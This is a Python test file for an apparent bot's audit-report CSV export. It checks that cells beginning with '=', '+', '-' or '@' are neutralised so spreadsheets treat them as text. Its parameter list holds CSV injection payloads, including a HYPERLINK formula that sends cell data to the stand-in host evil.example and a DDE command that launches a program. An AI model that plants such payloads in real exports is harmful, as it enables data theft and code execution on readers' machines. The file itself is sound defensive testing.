"""A record as a line of CSV: what a spreadsheet opens is text, never a formula."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from bot.domain.audit import Deed, Entry, Head, chain
from bot.operations.audit_report import COLUMNS, Format, _line
from tests.factories import NOON, TEAM

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("column", ["tool", "person", "thread", "approval"])
def test_no_cell_is_a_formula(column: str, text: str) -> None:
    values: dict[str, Any] = {column: text}
    entry = Entry("e1", NOON, TEAM, Deed.REQUESTED, **values)
    (link,) = chain([entry], Head())
    (cells,) = csv.reader([_line(link, Format.CSV)])

    cell = cells[COLUMNS.index(column)]
    assert cell.lstrip()[:1] not in set("=+-@")
    assert text.strip()[1:] in cell
